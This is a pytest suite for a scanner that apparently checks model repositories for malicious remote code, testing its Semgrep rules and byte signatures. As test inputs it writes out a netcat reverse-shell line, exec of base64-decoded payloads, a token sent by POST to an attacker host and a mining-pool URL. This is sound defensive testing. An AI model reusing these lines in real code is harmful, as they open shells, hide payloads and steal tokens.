from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from hubguard.remote_code import CodeMatch, ScanOutcome, scan_code
from hubguard.remote_code import scan as scan_module
from hubguard.remote_code.verdict import SIGNALS

FIXTURES = Path(__file__).parent / "fixtures"
RULES_DIR = Path(__file__).resolve().parents[2] / "semgrep-rules"
EXPECT = re.compile(r"expect: ([\w.,\s-]+)")

pytestmark = pytest.mark.slow


def expected_matches(root: Path) -> set[tuple[str, int, str]]:
    """(path, line, rule id) for every `expect:` marker in the fixture tree."""
    expected = set()
    for path in sorted(root.rglob("*")):
        if not path.is_file() or path.is_symlink():
            continue
        for number, line in enumerate(path.read_bytes().split(b"\n"), 1):
            found = EXPECT.search(line.decode("utf-8", "replace"))
            if found:
                for rule_id in found.group(1).split(","):
                    expected.add((path.relative_to(root).as_posix(), number, rule_id.strip()))
    return expected


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, ScanOutcome]:
    base = tmp_path_factory.mktemp("remote-code")
    canary = base / "canary-ran"
    root = base / "repo"
    for source in FIXTURES.rglob("*"):
        if source.is_file():
            target = root / source.relative_to(FIXTURES)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(source.read_bytes().replace(b"CANARY_PATH", str(canary).encode()))
    (root / ".semgrepignore").write_text("modeling_evil.py\nnested/\n")
    binary = bytes(range(256)) * 16
    (root / "weights.bin").write_bytes(binary + b"\x00stratum+tcp://pool.invalid:3333\x00 expect: hubguard.sig.crypto-miner")
    outside = base / "outside.py"
    outside.write_text("import os\nos.system('id')\n")
    (root / "linked.py").symlink_to(outside)
    return root, canary, scan_code(root)


def test_expected_rule_ids_and_lines(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    root, _, outcome = scanned
    found = {(match.path, match.start_line, match.rule_id) for match in outcome.matches}
    missing = expected_matches(root) - found
    assert not missing, f"missing: {sorted(missing)}\nfound: {sorted(found)}"


def test_realistic_model_code_has_no_matches(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    _, _, outcome = scanned
    assert [match for match in outcome.matches if match.path == "modeling_clean.py"] == []


def test_every_match_is_expected(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    root, _, outcome = scanned
    expected = expected_matches(root)
    unexpected = {(m.path, m.start_line, m.rule_id) for m in outcome.matches} - expected
    assert not unexpected


def test_semgrep_and_signatures_both_ran(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    _, _, outcome = scanned
    assert {match.engine for match in outcome.matches} == {"semgrep", "signature"}
    assert all(match.severity in {"error", "warning", "info"} for match in outcome.matches)
    assert all(match.rule_id.startswith("hubguard.") for match in outcome.matches)


def test_repository_semgrepignore_and_default_ignores_do_not_hide_code(
    scanned: tuple[Path, Path, ScanOutcome],
) -> None:
    _, _, outcome = scanned
    semgrep_paths = {match.path for match in outcome.matches if match.engine == "semgrep"}
    assert {"modeling_evil.py", "nested/tests/helper.py"} <= semgrep_paths


def test_symlinks_are_not_followed(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    _, _, outcome = scanned
    assert all(match.path != "linked.py" for match in outcome.matches)


def test_file_with_syntax_error_is_still_matched_by_both_engines(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    _, _, outcome = scanned
    engines = {match.engine for match in outcome.matches if match.path == "broken.py"}
    assert engines == {"semgrep", "signature"}
    assert outcome.errors == []


def test_scanned_code_never_runs(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    root, canary, _ = scanned
    assert "CANARY" not in (root / "modeling_evil.py").read_text()
    assert not canary.exists()


def test_semgrep_rule_tests_pass() -> None:
    semgrep = scan_module.find_semgrep()
    assert semgrep is not None
    completed = subprocess.run(
        [semgrep, "--test", "--metrics=off", "--disable-version-check", str(RULES_DIR)],
        capture_output=True,
        text=True,
        env={**os.environ, "SEMGREP_ENABLE_VERSION_CHECK": "0", "SEMGREP_SEND_METRICS": "off"},
        check=False,
    )
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "All tests passed" in completed.stdout + completed.stderr


def test_every_rule_has_a_test_file_and_metadata() -> None:
    rule_files = sorted(RULES_DIR.glob("*.yaml"))
    assert len(rule_files) >= 12
    for rule_file in rule_files:
        assert rule_file.with_suffix(".py").is_file(), rule_file
        for rule in yaml.safe_load(rule_file.read_text())["rules"]:
            assert rule["id"].startswith("hubguard.")
            assert rule["severity"] in {"ERROR", "WARNING", "INFO"}
            assert rule["languages"] == ["python"]
            assert {"cwe", "confidence", "description", "references"} <= set(rule["metadata"])
            assert set(rule["metadata"].get("hubguard-signals", [])) <= SIGNALS, rule["id"]
            if rule["severity"] == "INFO":  # reported only through combinations, so it must feed one
                assert rule["metadata"]["hubguard-signals"], rule["id"]


def fake_semgrep(tmp_path: Path, script: str) -> str:
    path = tmp_path / "fake-semgrep"
    path.write_text(f"#!{sys.executable}\n{script}\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


@pytest.fixture
def small_repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "modeling.py").write_text("import base64\nexec(base64.b64decode(B))\n")
    return root


SIGNATURE_MATCH = CodeMatch(
    "modeling.py",
    2,
    2,
    "hubguard.sig.exec-decoded",
    "exec/eval/compile of decoded or decompressed data: a common way to hide a payload.",
    "error",
    "signature",
    ("decode", "code-exec"),
    "exec(base64.b64decode(B))",
)


def test_missing_semgrep_keeps_signature_matches(small_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: None)
    outcome = scan_code(small_repo)
    assert outcome.matches == [SIGNATURE_MATCH]
    assert outcome.errors == ["semgrep is not installed; only byte signatures were checked"]


def test_failing_semgrep_is_an_error_not_an_exception(
    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    executable = fake_semgrep(tmp_path, "import sys\nsys.stderr.write('boom\\n')\nsys.exit(2)")
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
    outcome = scan_code(small_repo)
    assert outcome.matches == [SIGNATURE_MATCH]
    assert outcome.errors == ["semgrep failed (exit 2): boom"]


def test_semgrep_timeout_is_an_error(small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    executable = fake_semgrep(tmp_path, "import time\ntime.sleep(60)")
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
    outcome = scan_code(small_repo, timeout=0.5)
    assert outcome.matches == [SIGNATURE_MATCH]
    assert outcome.errors == ["semgrep timed out after 0.5 s; only byte signatures are complete"]


def test_semgrep_environment_drops_secrets(
    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dump = tmp_path / "env.txt"
    script = f"import os, json\nopen({str(dump)!r}, 'w').write(json.dumps(dict(os.environ)))\nprint('{{}}')"
    executable = fake_semgrep(tmp_path, script)
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
    monkeypatch.setenv("HF_TOKEN", "hf_secretvalue")
    monkeypatch.setenv("SEMGREP_APP_TOKEN", "sg_secretvalue")
    outcome = scan_code(small_repo)
    assert outcome.errors == []
    environment = dump.read_text()
    assert "secretvalue" not in environment
    assert '"SEMGREP_SEND_METRICS": "off"' in environment


def test_not_a_directory(tmp_path: Path) -> None:
    outcome = scan_code(tmp_path / "missing")
    assert outcome.matches == [] and len(outcome.errors) == 1


def test_matches_carry_the_line_text_and_the_rule_signals(scanned: tuple[Path, Path, ScanOutcome]) -> None:
    _, _, outcome = scanned
    (send,) = [m for m in outcome.matches if m.path == "modeling_evil.py" and m.rule_id == "hubguard.network-send"]
    assert send.snippet.startswith('requests.post("https://attacker.invalid/t", data={"t": token}, timeout=5)')
    assert send.signals == ("network-send",)
    assert all(match.snippet for match in outcome.matches if match.path.endswith(".py"))


def test_payload_after_megabytes_of_tables_is_found_by_both_engines(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    rows = "    0.125, 0.25, 0.5, 1.0, 2.0, 4.0, 8.0, 16.0,\n" * 60_000
    source = f"import base64\nTABLE = [\n{rows}]\nexec(base64.b64decode(PAYLOAD))\n"
    (root / "modeling_big.py").write_text(source)
    payload_line = source.count("\n")
    outcome = scan_code(root)
    assert outcome.errors == [] and outcome.unscanned == {}
    found = {(match.rule_id, match.start_line) for match in outcome.matches}
    assert {("hubguard.exec-decoded-payload", payload_line), ("hubguard.sig.exec-decoded", payload_line)} <= found


def test_code_semgrep_cannot_take_is_reported_unscanned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(scan_module, "STRIP_ABOVE_BYTES", 100)
    monkeypatch.setattr(scan_module, "MAX_SEMGREP_TARGET_BYTES", 1000)
    root = tmp_path / "repo"
    root.mkdir()
    (root / "huge.py").write_text("".join(f"value_{index} = compute({index})\n" for index in range(200)) + "nc -e /bin/sh h 1\n")
    (root / "small.py").write_text("import os\n")
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: None)
    outcome = scan_code(root)
    assert list(outcome.unscanned) == ["huge.py"] and outcome.retryable == set()
    assert "once data literals are removed" in outcome.unscanned["huge.py"]
    assert [(m.path, m.rule_id) for m in outcome.matches] == [("huge.py", "hubguard.sig.reverse-shell-netcat")]


def test_semgrep_errors_about_one_file_mark_that_file_unscanned(
    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = (
        "import json, sys\n"
        "target = sys.argv[-1]\n"
        "print(json.dumps({'results': [], 'paths': {'scanned': []},\n"
        "    'errors': [{'type': 'Timeout', 'message': 'Timeout when running x on ' + target, 'path': target}]}))\n"
    )
    executable = fake_semgrep(tmp_path, script)
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
    outcome = scan_code(small_repo)
    assert outcome.errors == []
    assert list(outcome.unscanned) == ["modeling.py"] and outcome.retryable == {"modeling.py"}
    assert outcome.unscanned["modeling.py"].startswith("semgrep: Timeout when running x on ")


def test_a_target_semgrep_silently_skips_is_unscanned(
    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    executable = fake_semgrep(tmp_path, "print('{\"results\": [], \"errors\": [], \"paths\": {\"scanned\": []}}')")
    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
    assert scan_code(small_repo).unscanned == {"modeling.py": "semgrep did not analyse it"}
